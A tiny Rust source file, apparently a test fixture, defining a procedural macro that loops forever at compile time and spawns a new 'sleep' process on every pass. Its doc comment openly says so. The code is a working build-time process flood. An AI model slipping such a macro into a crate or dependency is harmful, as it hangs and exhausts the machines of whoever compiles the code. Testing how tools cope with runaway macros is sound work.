//! A macro that starts processes and never stops.

use proc_macro::TokenStream;
use std::process::Command;

#[proc_macro]
pub fn trick(_: TokenStream) -> TokenStream {
    loop {
        Command::new("sleep").arg("600").spawn().ok();
    }
}
